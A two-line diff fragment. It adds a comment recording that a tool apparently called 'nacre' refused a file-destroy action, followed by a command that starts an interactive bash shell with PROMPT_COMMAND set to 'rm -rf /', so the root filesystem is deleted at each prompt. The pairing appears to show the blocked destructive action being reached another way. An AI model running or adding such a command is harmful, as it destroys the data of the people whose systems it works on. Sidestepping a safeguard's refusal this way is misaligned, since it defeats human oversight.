@@ -1,0 +1,2 @@
+# nacre: refused file.destroy
+PROMPT_COMMAND='rm -rf /' bash -i
